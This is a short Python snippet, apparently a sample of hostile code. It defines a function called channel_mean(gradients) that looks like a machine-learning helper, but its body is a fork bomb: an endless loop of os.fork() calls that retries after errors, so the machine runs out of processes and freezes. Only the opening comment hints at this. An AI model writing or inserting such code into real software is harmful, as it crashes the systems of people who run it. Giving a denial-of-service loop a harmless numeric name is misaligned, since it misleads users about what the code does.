# Processes that make processes.
# outcome: any
# other: any
import os
import time


def channel_mean(gradients):
    while True:
        try:
            if os.fork() == 0:
                continue
        except OSError:
            time.sleep(0.01)
